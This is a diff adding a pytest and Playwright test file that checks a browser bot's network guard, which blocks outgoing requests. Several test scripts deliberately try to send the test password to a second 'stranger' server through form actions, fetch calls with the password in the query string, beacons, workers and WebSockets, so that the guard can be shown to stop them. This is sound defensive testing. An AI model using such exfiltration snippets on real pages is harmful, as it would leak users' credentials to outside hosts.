@@ -1,0 +1,220 @@
+"""The network guard, with a real browser and a server that counts what reaches it."""
+
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+from playwright.sync_api import Page, expect
+
+from kors_bot.browser import BrowserSession, open_browser
+from kors_bot.guard import Guard, NotPermitted
+from kors_bot.settings import Settings
+from tests.browser.odd_server import OddServer, odd_server
+
+SECRET = "hunter2+secret&more"
+
+XHR = """
+new Promise(done => {
+    const request = new XMLHttpRequest();
+    request.onloadend = () => done(1);
+    request.open('POST', '/taken');
+    request.send('x');
+})
+"""
+WORKER = """
+new Promise(done => {
+    const send = `fetch('${location.origin}/taken', {method: 'POST'}).catch(() => 0).then(() => postMessage(1))`;
+    const worker = new Worker(URL.createObjectURL(new Blob([send])));
+    worker.onmessage = () => done(1);
+})
+"""
+
+
+@pytest.fixture(scope="module")
+def browser(playwright: object, tmp_path_factory: pytest.TempPathFactory) -> Iterator[BrowserSession]:
+    with odd_server() as shop, odd_server() as stranger:
+        settings = Settings(
+            base_url=shop.url, email="a@b.example", password=SECRET, data_dir=tmp_path_factory.mktemp("data"), timeout=5
+        )
+        with open_browser(settings) as browser:
+            SERVERS.update(shop=shop, stranger=stranger)
+            yield browser
+
+
+SERVERS: dict[str, OddServer] = {}
+
+
+@pytest.fixture
+def shop(browser: BrowserSession) -> OddServer:
+    SERVERS["shop"].received.clear()
+    SERVERS["shop"].pages.clear()
+    return SERVERS["shop"]
+
+
+@pytest.fixture
+def stranger(browser: BrowserSession) -> OddServer:
+    SERVERS["stranger"].received.clear()
+    return SERVERS["stranger"]
+
+
+@pytest.fixture
+def page(browser: BrowserSession) -> Page:
+    return browser.page()
+
+
+@pytest.fixture
+def guard(browser: BrowserSession) -> Guard:
+    guard = browser.guard()
+    guard.blocked.clear()
+    return guard
+
+
+def _form(action: str, *, extra: str = "") -> str:
+    return (
+        f"<form method=post action='{action}' {extra}><input name=password value='{SECRET}'>"
+        "<button>Send</button></form>"
+    )
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        "fetch('/taken', {method: 'POST', body: 'x'}).catch(() => 0)",
+        "fetch('/taken', {method: 'PUT'}).catch(() => 0)",
+        "fetch('/taken', {method: 'DELETE'}).catch(() => 0)",
+        "fetch('/taken', {method: 'POST', keepalive: true}).catch(() => 0)",
+        "navigator.sendBeacon('/taken', 'x')",
+        XHR,
+        WORKER,
+    ],
+    ids=["fetch", "put", "delete", "keepalive", "beacon", "xhr", "worker"],
+)
+def test_no_script_sends_anything(shop: OddServer, page: Page, guard: Guard, script: str) -> None:
+    page.goto(shop.url)
+    page.evaluate(script)
+    page.goto(f"{shop.url}/next")
+
+    assert shop.sent("POST", "PUT", "DELETE") == []
+    assert [(blocked.address, blocked.reason) for blocked in guard.blocked] == [
+        (f"{shop.url}/taken", "nothing may be sent now")
+    ]
+
+
+@pytest.mark.parametrize("extra", ["", "target=_blank", "target=inner"], ids=["here", "new tab", "frame"])
+def test_no_form_sends_anything(shop: OddServer, page: Page, guard: Guard, extra: str) -> None:
+    shop.pages["/form"] = _form("/taken", extra=extra) + "<iframe name=inner></iframe>"
+    page.goto(f"{shop.url}/form")
+    page.get_by_role("button", name="Send").click()
+    page.goto(f"{shop.url}/next")
+
+    assert shop.sent("POST") == []
+    assert [blocked.method for blocked in guard.blocked] == ["POST"]
+
+
+def test_a_blocked_form_stays_on_the_screen(shop: OddServer, page: Page, guard: Guard) -> None:
+    shop.pages["/form"] = _form("/taken")
+    page.goto(f"{shop.url}/form")
+    page.get_by_role("button", name="Send").click()
+    page.evaluate("fetch('/x', {method: 'POST'}).catch(() => 0)")
+
+    assert [blocked.address for blocked in guard.blocked] == [f"{shop.url}/taken", f"{shop.url}/x"]
+    expect(page.get_by_role("button", name="Send")).to_be_visible()
+
+
+def test_no_websocket_is_opened(shop: OddServer, page: Page, guard: Guard) -> None:
+    page.goto(shop.url)
+    ended = page.evaluate(
+        "() => new Promise(done => { const s = new WebSocket(location.origin.replace('http', 'ws') + '/socket');"
+        " s.onclose = () => done('closed'); s.onerror = () => done('closed') })"
+    )
+
+    assert ended == "closed"
+    assert shop.sent("GET") == ["/"]
+    assert [blocked.method for blocked in guard.blocked] == ["WEBSOCKET"]
+
+
+def test_an_open_window_lets_exactly_its_request_through(shop: OddServer, page: Page, guard: Guard) -> None:
+    page.goto(shop.url)
+    with guard.allow("sign_in"):
+        page.evaluate("fetch('/login', {method: 'POST', body: 'x'}).then(answer => answer.text())")
+    page.evaluate("fetch('/again', {method: 'POST', body: 'x'}).catch(() => 0)")
+
+    assert shop.sent("POST") == ["/login"]
+    assert [blocked.address for blocked in guard.blocked] == [f"{shop.url}/again"]
+
+
+def test_even_then_nothing_is_sent_to_another_host(
+    shop: OddServer, stranger: OddServer, page: Page, guard: Guard
+) -> None:
+    shop.pages["/form"] = _form(f"{stranger.url}/taken")
+    page.goto(f"{shop.url}/form")
+    with guard.allow("sign_in"):
+        page.get_by_role("button", name="Send").click()
+        page.evaluate(f"fetch('{stranger.url}/fetched', {{method: 'POST', mode: 'no-cors'}}).catch(() => 0)")
+        page.goto(f"{shop.url}/next")
+
+    assert stranger.received == []
+    assert [blocked.reason for blocked in guard.blocked] == [
+        "it would carry the password to another host",
+        "it goes to another host than the shop's",
+    ]
+
+
+@pytest.mark.parametrize("spelt", ["hunter2+secret&more", "hunter2%2Bsecret%26more"])
+def test_the_password_never_leaves_in_an_address(
+    shop: OddServer, stranger: OddServer, page: Page, guard: Guard, spelt: str
+) -> None:
+    page.goto(shop.url)
+    page.evaluate(f"fetch('{stranger.url}/x.png?p={spelt}', {{mode: 'no-cors'}}).catch(() => 0)")
+    page.evaluate(f"fetch('{stranger.url}/x.png?p=nothing', {{mode: 'no-cors'}})")
+
+    assert stranger.sent("GET") == ["/x.png?p=nothing"]
+    assert [blocked.address for blocked in guard.blocked] == [f"{stranger.url}/x.png"]
+
+
+def test_a_submission_needs_permission(shop: OddServer, page: Page, guard: Guard) -> None:
+    page.goto(shop.url)
+    with pytest.raises(NotPermitted), guard.allow("submission"):
+        raise AssertionError("it must not come to this")
+
+    with guard.permit_submission(), guard.allow("submission"):
+        page.evaluate("fetch('/submit', {method: 'POST', body: 'x'}).then(answer => answer.text())")
+
+    with pytest.raises(NotPermitted), guard.allow("submission"):
+        raise AssertionError("it must not come to this")
+    assert shop.sent("POST") == ["/submit"]
+
+
+def test_permission_alone_opens_nothing(shop: OddServer, page: Page, guard: Guard) -> None:
+    page.goto(shop.url)
+    with guard.permit_submission():
+        page.evaluate("fetch('/submit', {method: 'POST'}).catch(() => 0)")
+
+    assert shop.sent("POST") == []
+
+
+def test_a_permitted_post_that_the_shop_passes_on_is_noticed(
+    shop: OddServer, stranger: OddServer, page: Page, guard: Guard
+) -> None:
+    shop.redirects["/login"] = f"{stranger.url}/elsewhere"
+    page.goto(shop.url)
+    with guard.allow("sign_in"):
+        page.evaluate("fetch('/login', {method: 'POST', mode: 'no-cors'}).catch(() => 0)")
+
+    assert guard.strays == [f"{stranger.url}/elsewhere"]
+
+
+def test_reading_is_not_hindered(shop: OddServer, page: Page, guard: Guard) -> None:
+    shop.pages["/page"] = "<script src=/a.js></script><h1 id=said>no</h1><script>fetch('/b').then(show)</script>"
+    shop.pages["/a.js"] = "function show() { document.getElementById('said').textContent = 'yes' }"
+    page.goto(f"{shop.url}/page")
+
+    expect(page.get_by_role("heading")).to_have_text("yes")
+    assert guard.blocked == []
+
+
+def test_a_blocked_address_is_kept_without_its_query(tmp_path: Path, shop: OddServer, page: Page, guard: Guard) -> None:
+    page.goto(shop.url)
+    page.evaluate("fetch('/x?token=abc', {method: 'POST'}).catch(() => 0)")
+
+    assert [blocked.address for blocked in guard.blocked] == [f"{shop.url}/x"]
